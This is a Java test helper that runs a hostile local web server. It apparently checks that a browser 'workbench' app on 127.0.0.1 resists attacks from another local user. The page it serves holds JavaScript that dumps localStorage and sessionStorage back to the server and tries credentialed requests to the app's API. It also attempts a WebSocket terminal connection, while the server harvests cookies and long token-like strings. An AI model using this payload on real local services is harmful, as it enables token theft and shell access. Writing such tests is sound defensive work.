package weir.test.browser;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.ConcurrentSkipListSet;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

/** A server that another user has at another port of 127.0.0.1. It keeps whatever could be a secret in what it hears. */
final class Neighbour implements AutoCloseable {
    /** Sends all that its own origin has kept in the browser, and tries the workbench with the browser's credentials. */
    private static final String PAGE = """
            <!doctype html><title>working</title><script>
            const tell = (text) => fetch("/heard", {method: "POST", body: text});
            const all = [];
            for (const kept of [localStorage, sessionStorage]) {
              for (let i = 0; i < kept.length; i++) all.push(kept.getItem(kept.key(i)));
            }
            const tries = [];
            for (const path of ["", "app.js", "api/v1/status", "api/v1/links", "api/v1/events"]) {
              tries.push(fetch("TARGET" + path, {credentials: "include"}).then((a) => a.text()).then((t) => "got " + t, () => "refused"));
            }
            tries.push(new Promise((resolve) => {
              const socket = new WebSocket("TARGET".replace("http", "ws") + "api/v1/terminals?node=h1");
              socket.onopen = () => resolve("got a shell");
              socket.onerror = () => resolve("refused");
            }));
            Promise.all(tries).then((got) => tell(all.join(" ")).then(() => { document.title = got.join("|"); }));
            </script>
            """;

    private static final Pattern NO_LETTER = Pattern.compile("[^0-9a-zA-Z]+");
    private static final int LEAST_LETTERS = 32;

    private final HttpServer server;
    private final URI target;
    private final Set<String> cookies = new ConcurrentSkipListSet<>();
    private final Set<String> secrets = new ConcurrentSkipListSet<>();

    /**
     * Listens.
     *
     * @param port 0: any
     * @param target the workbench that its page attacks
     */
    Neighbour(int port, URI target) throws IOException {
        this.target = target;
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), port), 0);
        server.createContext("/", this::hear);
        server.start();
    }

    private void hear(HttpExchange exchange) throws IOException {
        exchange.getRequestHeaders().forEach((name, values) -> values.forEach(this::keep));
        cookies.addAll(exchange.getRequestHeaders().getOrDefault("Cookie", List.of()));
        keep(exchange.getRequestURI().toString());
        keep(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
        byte[] page = PAGE.replace("TARGET", target.toString()).getBytes(StandardCharsets.UTF_8);
        exchange.getResponseHeaders().set("Content-Type", "text/html");
        exchange.sendResponseHeaders(200, page.length);
        exchange.getResponseBody().write(page);
        exchange.close();
    }

    private void keep(String text) {
        secrets.addAll(Arrays.stream(NO_LETTER.split(text))
                .filter(word -> word.length() >= LEAST_LETTERS)
                .collect(Collectors.toSet()));
    }

    String address() {
        return "http://127.0.0.1:" + server.getAddress().getPort() + "/";
    }

    /** Whole Cookie headers. */
    Set<String> cookies() {
        return new TreeSet<>(cookies);
    }

    /** Whatever was long enough for a secret. */
    Set<String> secrets() {
        return new TreeSet<>(secrets);
    }

    @Override
    public void close() {
        server.stop(0);
    }
}
